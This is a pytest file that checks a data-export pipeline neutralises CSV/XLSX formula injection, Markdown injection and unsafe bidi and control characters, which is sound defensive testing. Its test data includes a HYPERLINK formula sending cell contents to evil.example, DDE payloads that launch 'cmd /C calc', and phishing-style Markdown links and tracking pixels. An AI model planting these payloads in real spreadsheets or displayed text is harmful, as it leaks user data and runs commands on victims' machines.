"""Formula injection in every download, Markdown injection in shown text, unsafe characters (issue 15).

Each writer is fed a value beginning with every character a spreadsheet reads as a formula
(OWASP CSV injection) and the file is read back: CSV cells start with a quote, XLSX cells are
text cells (openpyxl ``data_type == "s"``), never formulas (``"f"``).
"""

from __future__ import annotations

import csv
import dataclasses
import io

import geopandas as gpd
import pandas as pd
import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from shapely.geometry import Point

from common.text import Bilingual
from etl.crosstab import build_spec, run_crosstab
from etl.crosstab.export import build_csv, build_long_csv, build_xlsx
from etl.submissions.report import Problem, Report
from etl.submissions.templates import build_template
from etl.textsafe import (
    FORMULA_TRIGGERS,
    build_csv_bytes,
    escape_markdown,
    find_unsafe_characters,
    is_formula_like,
    plain_text,
    safe_cell,
)
from layers import exports, flow_exports
from tests.crosstab_store import xt_con, xt_store_path  # noqa: F401

PAYLOADS = [f'{c}HYPERLINK("https://evil.example/?"&A1,"click")' for c in FORMULA_TRIGGERS] + [
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd",
]


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_csv_safe(data: bytes, payload: str) -> None:
    cells = _csv_cells(data)
    assert any(c.startswith("'" + payload) for c in cells), f"payload {payload!r} not found quoted in the CSV"
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS) and is_formula_like(c)]


def _assert_xlsx_safe(data: bytes, payload: str) -> None:
    cells = _xlsx_cells(data)
    hits = [c for c in cells if isinstance(c.value, str) and c.value.startswith(payload)]
    assert hits, f"payload {payload!r} not found in the workbook"
    assert all(c.data_type == "s" for c in hits)
    assert not [c for c in cells if c.data_type == "f"]


# --- the helper -----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_quotes_formula_like_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-12, 3.5, -0.25, "-12", "+3.5", "1e5", "-1,5", "Guatemala", "", None, "a=b"])
def test_safe_cell_keeps_numbers_and_ordinary_text(value):
    assert safe_cell(value) == value


def test_build_csv_bytes_keeps_numeric_columns_numeric():
    frame = pd.DataFrame({"name": ["=cmd", "ok"], "value": [-5, 7]})
    rows = list(csv.reader(io.StringIO(build_csv_bytes(frame).decode("utf-8-sig"))))
    assert rows == [["name", "value"], ["'=cmd", "-5"], ["ok", "7"]]


# --- every writer ---------------------------------------------------------------------------------

FLOWS = build_spec(
    ["entries"], ["ref_area"], ["time_period"], {"dataset": ["t_flow"]}, granularity="month", totals="totals"
)


def _hostile_result(con, payload: str):
    result = run_crosstab(con, FLOWS)
    cat = result.catalogue
    datasets = {
        k: dataclasses.replace(d, title=Bilingual(payload, payload), publisher=payload, attribution=payload)
        for k, d in cat.datasets.items()
    }
    return dataclasses.replace(result, catalogue=dataclasses.replace(cat, datasets=datasets))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_explorer_downloads_write_metadata_as_text(xt_con, payload):
    result = _hostile_result(xt_con, payload)
    _assert_csv_safe(build_csv(result, "en", "v1"), payload)
    _assert_csv_safe(build_long_csv(result, "en", "v1"), payload)
    book = build_xlsx(result, "en", "v1")
    _assert_xlsx_safe(book, payload)
    sources = load_workbook(io.BytesIO(book)).worksheets[-1]  # the sources sheet
    titles = [row[1] for row in sources.iter_rows(min_row=2)]
    assert titles and all(c.value == payload and c.data_type == "s" for c in titles)


def _map_frame(payload: str) -> gpd.GeoDataFrame:
    row = {
        "geo_code": "GTM",
        "name": payload,
        "indicator_id": "x",
        "period": "2024",
        "value": -3.0,
        "unit": "persons",
        "obs_status": "A",
        "dataset_id": "d1",
        "source": payload,
        "publisher": payload,
        "licence": "CC-BY-4.0",
        "licence_url": "",
        "attribution": payload,
        "retrieved": "2024",
        "revision": "1",
    }
    return gpd.GeoDataFrame([row], geometry=[Point(-90, 15)], crs=4326)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_map_downloads_write_text_cells(payload):
    frame = _map_frame(payload)
    _assert_csv_safe(exports.build_csv(frame), payload)
    _assert_xlsx_safe(exports.build_xlsx(frame, {"citation": payload}), payload)
    geo = gpd.read_file(io.BytesIO(exports.build_geojson(frame)))
    assert geo.loc[0, "name"] == "'" + payload and geo.loc[0, "value"] == -3.0
    cells = _xlsx_cells(exports.build_xlsx(frame))
    assert [c.value for c in cells if c.data_type == "n"].count(-3) == 1  # numbers stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_flow_downloads_write_text_cells(payload):
    frame = pd.DataFrame({"origin": [payload], "destination": ["USA"], "value": [10], "dataset_id": ["d1"]})
    about = [{"dataset_id": "d1", "title_en": payload, "publisher": payload, "caveats_en": payload}]
    _assert_csv_safe(flow_exports.build_table_download(frame, "csv", about), payload)
    _assert_xlsx_safe(flow_exports.build_table_download(frame, "xlsx", about), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_validation_report_download_echoes_values_as_text(payload):
    report = Report(file="f.csv", country="GTM")
    report.add(Problem("value_not_numeric", row=3, column=payload, value=payload))
    _assert_csv_safe(report.to_csv("es"), payload)
    _assert_xlsx_safe(report.to_xlsx("en"), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_templates_write_metadata_and_rows_as_text(payload):
    rows = pd.DataFrame(
        {"period": ["2024"], "territory": [payload], "flow": ["entry"], "nationality": ["HND"], "value": [5]}
    )
    xlsx = build_template("entries_exits", "es", "xlsx", "GTM", metadata={"title": payload}, rows=rows)
    _assert_xlsx_safe(xlsx, payload)
    text = build_template("entries_exits", "es", "csv", "GTM", rows=rows).decode("utf-8-sig")
    assert "'" + payload in [c for row in csv.reader(io.StringIO(text)) for c in row]


# --- Markdown -------------------------------------------------------------------------------------

MARKDOWN_ATTACKS = [
    "[Sign in here](https://evil.example/login)",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example>",
    "<img src=https://evil.example/p.png>",
    "[a]: https://evil.example\n\n[a]",
    "# Heading\n- item\n> quote",
    "**bold** _it_ `code` ~~s~~ $x^2$ :red[alert]",
    "![x][r]\n\n[r]: https://evil.example/i.png",
]


@pytest.mark.parametrize("text", MARKDOWN_ATTACKS)
def test_escaped_markdown_renders_as_the_same_plain_text(text):
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    html = md.render(escape_markdown(text))
    assert "<a " not in html and "<img" not in html and "<h1" not in html and "<li" not in html
    assert "<strong" not in html and "<em" not in html and "<code" not in html and "<blockquote" not in html
    unescaped = md.render(text)
    assert (
        "<a " in unescaped
        or "<img" in unescaped
        or "<h1" in unescaped
        or "<strong" in unescaped
        or "&lt;img" in unescaped
    )  # the attack does something when not escaped (raw HTML is escaped by md)
    inline = md.renderInline(escape_markdown(text.replace("\n", " "))).replace("\u2060", "")  # word joiners: invisible
    assert inline.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&").replace("&quot;", '"') == " ".join(
        text.replace("\n", " ").split(" ")
    )


def test_plain_text_drops_bidi_and_controls_and_cuts():
    assert plain_text("abc\u202edcba\x07") == "abcdcba"
    assert plain_text("x" * 10, max_length=5) == "xxxx…"
    assert plain_text(None) == ""


@pytest.mark.parametrize(
    "char",
    [
        "\u202a",
        "\u202b",
        "\u202c",
        "\u202d",
        "\u202e",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200f",
        "\x00",
        "\x1b",
        "\x7f",
        "\x85",
        "\u200b",
        "\t",
        "\n",
    ],
)
def test_unsafe_characters_are_found(char):
    assert find_unsafe_characters(f"Fuente{char}IGM") == [char]


def test_ordinary_text_has_no_unsafe_characters():
    assert find_unsafe_characters("Instituto Guatemalteco de Migración — «IGM» ñ ü 中文 عربى") == []
    assert find_unsafe_characters("a\tb\nc", allow_newlines=True) == []


@pytest.mark.parametrize(
    "text",
    [
        "see https://evil.example/x",
        "www.evil.org/login",
        "write to a@b.com",
        "[Sign in](https://x.y)",
        "ftp://files.example",
    ],
)
def test_addresses_in_untrusted_text_can_never_become_links(text):
    """GFM autolinks addresses even when their punctuation is escaped; a word joiner inside them stops it."""
    from etl.textsafe import WORD_JOINER, escape_markdown

    shown = escape_markdown(text)
    visible = shown.replace(WORD_JOINER, "").replace("\\", "")
    assert visible == text  # a person reads exactly what was typed
    assert "://" not in shown and "www." not in shown.replace("\\", "")
    assert "@" not in shown or shown[shown.index("@") - 1] == WORD_JOINER
